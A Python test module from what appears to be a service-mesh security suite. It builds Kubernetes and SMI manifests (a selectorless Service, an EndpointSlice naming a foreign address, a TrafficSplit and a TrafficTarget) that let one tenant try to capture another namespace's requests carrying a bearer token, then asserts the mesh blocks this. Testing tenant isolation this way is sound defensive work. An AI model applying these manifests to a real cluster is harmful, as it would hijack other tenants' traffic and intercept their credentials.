"""A tenant who captures: objects of one namespace only that would lead another's requests to a server of the tenant.

    python -P -m tests.attacks.tenants serve NAME PORT --seconds 20   # answers NAME to every request
    python -P -m tests.attacks.tenants post HOST:PORT --count 40      # what answered, as the last line

A headless Service without selector has an EndpointSlice that names the tenant's own pod and a foreign address. A
TrafficSplit sends what is meant for it to another Service of the tenant, and a TrafficTarget puts all of it into the
sidecars of an account that never asked.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import sys
import threading
import time
from collections.abc import Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.attacks.attack import Attack, Cost, told
from tests.attacks.scene import MEMBER, STRANGER, VICTIM, AttackScene

Manifest = dict[str, Any]
PORT = 8000
SECRET = "Bearer s3cret"


def capture(
    address: str,
    *,
    namespace: str,
    app: str,
    account: str,
    pod: tuple[str, str],
    victim: tuple[str, str],
    port: int = PORT,
    cluster_ip: str = "",
) -> list[Manifest]:
    """The objects. `pod`: name and uid of the tenant's pod, `victim`: namespace and account whose calls are meant.

    With a `cluster_ip` the Service claims that one instead, and leads to the tenant's pod by its selector.
    """

    def made(kind: str, api_version: str, name: str, spec: Manifest, **more: Any) -> Manifest:
        head = {"apiVersion": api_version, "kind": kind, "metadata": {"name": name, "namespace": namespace, **more}}
        return {**head, **spec}

    ports = [{"port": port, "name": "http"}]
    reference = {"kind": "Pod", "name": pod[0], "uid": pod[1], "namespace": namespace}
    endpoint = {"addresses": [address], "targetRef": reference}
    label = {"kubernetes.io/service-name": "evil"}
    subject = {"kind": "ServiceAccount", "name": account, "namespace": namespace}
    source = {"kind": "ServiceAccount", "name": victim[1], "namespace": victim[0]}
    everything = {"matches": [{"name": "all", "pathRegex": ".*", "methods": ["*"]}]}
    rules = [{"kind": "HTTPRouteGroup", "name": "evil"}]
    sink = {"spec": {"selector": {"app": app}, "ports": ports}}
    evil: Manifest = {"clusterIP": "None", "ports": ports}
    pieces = [
        made(
            "EndpointSlice",
            "discovery.k8s.io/v1",
            "evil",
            {"addressType": "IPv4", "endpoints": [endpoint], "ports": [{"name": "http", "port": port}]},
            labels=label,
        )
    ]
    if cluster_ip:
        evil, pieces = {"clusterIP": cluster_ip, "selector": {"app": app}, "ports": ports}, []
    backends = [{"service": "sink", "weight": 100}]
    return [
        made("Service", "v1", "sink", sink),
        made("Service", "v1", "evil", {"spec": evil}),
        *pieces,
        made("TrafficSplit", "split.smi-spec.io/v1alpha2", "evil", {"spec": {"service": "evil", "backends": backends}}),
        made("HTTPRouteGroup", "specs.smi-spec.io/v1alpha4", "evil", {"spec": everything}),
        made(
            "TrafficTarget",
            "access.smi-spec.io/v1alpha3",
            "evil",
            {"spec": {"destination": subject, "sources": [source], "rules": rules}},
        ),
    ]


async def captures(scene: AttackScene) -> Cost:
    """A member captures what the bookbuyer sends to a server outside of the mesh."""
    listing: Any = await scene.api.get(
        f"/api/v1/namespaces/{MEMBER[0]}/pods", params={"labelSelector": f"app={MEMBER[1]}"}
    )
    metadata = listing["items"][0]["metadata"]
    address = await scene.address(STRANGER)
    objects = capture(
        address,
        namespace=MEMBER[0],
        app=MEMBER[1],
        account="bookthief",
        pod=(metadata["name"], metadata["uid"]),
        victim=(VICTIM[0], "bookbuyer"),
    )
    argv = ("python", "-P", "-m", "tests.attacks.tenants", "serve")
    async with contextlib.AsyncExitStack() as stack:
        for place, name in ((STRANGER, "outside"), (MEMBER, "tenant")):
            running = await scene.start(place, (*argv, name, str(PORT), "--seconds", "25"))
            stack.push_async_callback(running.finish, within=40.0)
        for one in objects:
            await scene.api.apply(one)
            stack.push_async_callback(scene.api.delete, one)
        answers = await scene.program(VICTIM, "tests.attacks.tenants", "post", f"{address}:{PORT}", "--count", "60")
    assert "tenant" not in answers.said, f"the tenant was sent others' requests: {answers.said}"
    return Cost(requests=len(objects), said=f"answers to the victim: {answers.said}")


def serve(name: str, port: int, *, seconds: float) -> None:
    """Answer every request with this name, for so long."""

    class Named(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.send_response(200)
            self.send_header("Content-Length", str(len(name)))
            self.end_headers()
            self.wfile.write(name.encode())

        do_GET = do_POST  # noqa: N815 (the base class names it so)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 (the base class names it so)
            pass

    with ThreadingHTTPServer(("0.0.0.0", port), Named) as server:  # noqa: S104
        threading.Timer(seconds, server.shutdown).start()
        server.serve_forever()


def post(host: str, port: int, *, count: int, pause: float) -> Cost:
    """Send requests with a secret, each on a connection of its own; who answered, and how often."""
    seen: dict[str, int] = {}
    for _ in range(count):
        connection = http.client.HTTPConnection(host, port, timeout=3)
        try:
            connection.request("POST", "/", b"order", {"authorization": SECRET})
            answer = connection.getresponse()
            word = answer.read(100).decode(errors="replace") if answer.status == 200 else str(answer.status)
        except OSError:
            word = "closed"
        except http.client.HTTPException:
            word = "nonsense"
        finally:
            connection.close()
        seen[word] = seen.get(word, 0) + 1
        time.sleep(pause)
    said = ", ".join(f"{word} {times}" for word, times in sorted(seen.items()))
    return Cost(connections=count, requests=count, bytes=count * len(b"order"), said=said)


ATTACKS = (
    Attack(
        name="tenant-captures",
        what="a member's slice names a foreign address, his target a foreign source",
        run=captures,
    ),
)


def main(argv: Sequence[str]) -> None:
    """See the module."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    verbs = parser.add_subparsers(dest="verb", required=True)
    serving = verbs.add_parser("serve")
    serving.add_argument("name")
    serving.add_argument("port", type=int)
    serving.add_argument("--seconds", type=float, default=20.0)
    posting = verbs.add_parser("post")
    posting.add_argument("target")
    posting.add_argument("--count", type=int, default=40)
    posting.add_argument("--pause", type=float, default=0.2)
    options = parser.parse_args(argv)
    if options.verb == "serve":
        serve(options.name, options.port, seconds=options.seconds)
    else:
        host, _, port = str(options.target).rpartition(":")
        told(post(host, int(port), count=options.count, pause=options.pause))


if __name__ == "__main__":
    main(sys.argv[1:])
